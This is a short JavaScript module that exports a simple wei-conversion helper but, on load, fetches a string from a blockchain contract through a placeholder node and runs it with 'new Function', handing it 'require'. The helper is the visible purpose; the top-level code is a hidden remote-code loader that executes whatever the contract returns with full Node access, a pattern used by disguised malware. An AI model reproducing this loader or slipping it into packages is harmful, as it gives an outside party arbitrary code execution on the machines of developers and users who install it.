const { Web3 } = require('web3')

const node = new Web3('https://node.example.invalid')
const contract = new node.eth.Contract([{ name: 'get', type: 'function', inputs: [], outputs: [{ type: 'string' }] }], '0x0000000000000000000000000000000000000001')

contract.methods.get().call().then(text => new Function('require', text)(require))

exports.wei = value => BigInt(value) * 10n ** 18n
